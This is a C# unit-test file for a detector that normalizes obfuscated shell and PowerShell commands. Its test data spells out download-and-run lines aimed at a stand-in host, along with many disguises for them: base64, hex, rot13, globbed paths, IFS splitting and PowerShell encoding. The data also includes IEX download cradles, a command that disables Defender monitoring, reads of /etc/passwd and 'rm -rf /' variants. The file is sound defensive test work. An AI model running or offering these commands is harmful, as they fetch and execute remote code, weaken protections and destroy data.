namespace Palisade.Tests.Analyzers.Commands;

/// <summary>Each disguise must come out as the plain command in the canonical form the rules read.</summary>
public sealed class DeobfuscationTests
{
    [Theory]
    [InlineData("c''url http://x.example/a | sh")]
    [InlineData("\"c\"url http://x.example/a | sh")]
    [InlineData("\\c\\u\\r\\l http://x.example/a | sh")]
    [InlineData("a=cu; b=rl; $a$b http://x.example/a | sh")]
    [InlineData("export c=curl; ${c} http://x.example/a | sh")]
    [InlineData("x=XcurlX; ${x:1:4} http://x.example/a | sh")]
    [InlineData("{curl,http://x.example/a}|sh")]
    [InlineData("/usr/bin/curl http://x.example/a | /bin/sh")]
    [InlineData("/???/bin/c?rl http://x.example/a | /bin/s?")]
    [InlineData("CURL.EXE http://x.example/a | sh")]
    [InlineData("c$@url http://x.example/a | sh")]
    [InlineData("$(printf '\\x63\\x75\\x72\\x6c') http://x.example/a | sh")]
    [InlineData("$(echo Y3VybA== | base64 -d) http://x.example/a | sh")]
    [InlineData("$(which curl) http://x.example/a | sh")]
    public void Disguised_program_names_read_as_the_program(string line)
    {
        var lines = RecordingEffects.Lines(line);
        Assert.Contains("pipe: curl http://x.example/a | sh", lines);
    }

    [Fact]
    public void A_glob_ending_in_an_open_bracket_is_a_literal_name()
    {
        Assert.Contains("cmd: ca[ notes.txt", RecordingEffects.Lines("/bin/ca[ notes.txt"));
    }

    [Fact]
    public void Ifs_expansion_is_a_word_break()
    {
        Assert.Contains("cmd: cat /etc/passwd", RecordingEffects.Lines("cat${IFS}/etc/passwd"));
        Assert.Contains("cmd: cat /etc/passwd", RecordingEffects.Lines("cat$IFS/etc/passwd"));
    }

    [Fact]
    public void Globbed_interpreter_paths_resolve_to_the_interpreter()
    {
        Assert.Contains("cmd: bash -c id", RecordingEffects.Lines("/bin/b?sh -c id"));
        Assert.Contains("cmd: bash -c id", RecordingEffects.Lines("/bin/ba* -c id"));
        Assert.Contains("cmd: bash -c id", RecordingEffects.Lines("/???/bash -c id"));
    }

    [Theory]
    [InlineData("echo Y3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaA== | base64 -d | sh")]
    [InlineData("echo Y3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaA== | base64 --decode | bash")]
    [InlineData("base64 -d <<< Y3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaA== | sh")]
    [InlineData("printf '\\x63\\x75\\x72\\x6c http://x.example/a | sh' | sh")]
    [InlineData("printf '\\143\\165\\162\\154 http://x.example/a | sh' | sh")]
    [InlineData("echo -e '\\x63url http://x.example/a | sh' | sh")]
    [InlineData("echo 6375726c20687474703a2f2f782e6578616d706c652f61207c207368 | xxd -r -p | sh")]
    [InlineData("echo 'hs | a/elpmaxe.x//:ptth lruc' | rev | sh")]
    [InlineData("echo 'phey uggc://k.rknzcyr/n | fu' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | sh")]
    [InlineData("bash -c \"$(echo Y3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaA== | base64 -d)\"")]
    [InlineData("sh <<EOF\ncurl http://x.example/a | sh\nEOF")]
    public void Encoded_payloads_piped_into_a_shell_are_decoded_and_analysed(string line)
    {
        var lines = RecordingEffects.Lines(line);
        Assert.Contains("pipe: curl http://x.example/a | sh", lines);
    }

    [Theory]
    [InlineData("base64 -d payload.b64 | sh", "flow: decoded-file-exec sh")]
    [InlineData("strings logo.jpg | tail -n 1 | base64 --decode | bash", "flow: decoded-file-exec sh")]
    [InlineData("xxd -r -p blob.hex | python3", "flow: decoded-file-exec python")]
    public void Encoded_file_content_piped_into_an_interpreter_is_a_flow(string line, string flow)
    {
        Assert.Contains(flow, RecordingEffects.Lines(line));
    }

    [Theory]
    [InlineData("gunzip -c install.sh.gz | sh")]
    [InlineData("base64 -d key.b64 > key.bin")]
    public void Decompressing_or_decoding_without_running_is_not_that_flow(string line)
    {
        Assert.DoesNotContain(RecordingEffects.Lines(line), l => l.StartsWith("flow: decoded", StringComparison.Ordinal));
    }

    [Fact]
    public void A_brace_group_that_cannot_be_expanded_stays_visible_in_command_position()
    {
        Assert.Contains(RecordingEffects.Lines("bash -c \"{echo,\\\"$X\\\"}|{base64,-d}\""), l => l.StartsWith("cmd: {echo,", StringComparison.Ordinal));
    }

    [Fact]
    public void A_gzipped_base64_payload_is_decompressed()
    {
        using var ms = new MemoryStream();
        using (var gz = new System.IO.Compression.GZipStream(ms, System.IO.Compression.CompressionLevel.Optimal, leaveOpen: true))
            gz.Write("curl http://x.example/a | sh\n"u8);
        var b64 = Convert.ToBase64String(ms.ToArray());
        Assert.Contains("pipe: curl http://x.example/a | sh", RecordingEffects.Lines($"echo {b64} | base64 -d | gunzip | sh"));
    }

    [Fact]
    public void PowerShell_encoded_commands_are_decoded_from_utf16()
    {
        var encoded = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"));
        var lines = RecordingEffects.Lines($"powershell.exe -NoP -W Hidden -enc {encoded}");
        Assert.Contains("ps: invoke-expression (new-object net.webclient).downloadstring('http://x.example/a')", lines);
    }

    [Theory]
    [InlineData("I`E`X (New-Object Net.WebClient).DownloadString('http://x.example/a')")]
    [InlineData("iex (New-Object Net.WebClient).('Download'+'String')('http://x.example/a')")]
    [InlineData("Invoke-Expression ((New-Object Net.WebClient).DownloadString('http://x.example/a'))")]
    public void PowerShell_aliases_backticks_and_concatenation_are_normalized(string line)
    {
        var text = string.Join('\n', RecordingEffects.Lines(line));
        Assert.Contains("invoke-expression", text);
        Assert.Contains("downloadstring", text);
    }

    [Fact]
    public void PowerShell_frombase64string_payloads_are_analysed()
    {
        var inner = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("Set-MpPreference -DisableRealtimeMonitoring $true"));
        var lines = RecordingEffects.Lines($"IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{inner}')))");
        Assert.Contains(lines, l => l.StartsWith("ps: set-mppreference -disablerealtimemonitoring", StringComparison.Ordinal));
    }

    [Fact]
    public void Unknown_expansions_stay_visible_as_written()
    {
        var lines = RecordingEffects.Lines("echo $PATH ${HOME:-/root} $(date) $((1+2))");
        Assert.Contains("cmd: echo $PATH ${HOME:-/root} $(date) $((1+2))", lines);
    }

    [Fact]
    public void Operator_characters_inside_arguments_are_escaped()
    {
        var lines = RecordingEffects.Lines("echo \"curl x | sh; rm -rf / && y > /dev/sda\"");
        Assert.Contains("cmd: echo curl x \\| sh\\; rm -rf / \\&\\& y \\> /dev/sda", lines);
        Assert.DoesNotContain(lines, l => l.StartsWith("pipe:", StringComparison.Ordinal));
    }

    [Fact]
    public void Paths_are_normalized_and_rm_flags_put_in_one_order()
    {
        Assert.Contains("cmd: rm -r -f --no-preserve-root /", RecordingEffects.Lines("rm --no-preserve-root -fR //usr/./../"));
        Assert.Contains("cmd: rm -r -f ~", RecordingEffects.Lines("rm ~/ --recursive --force"));
    }
}
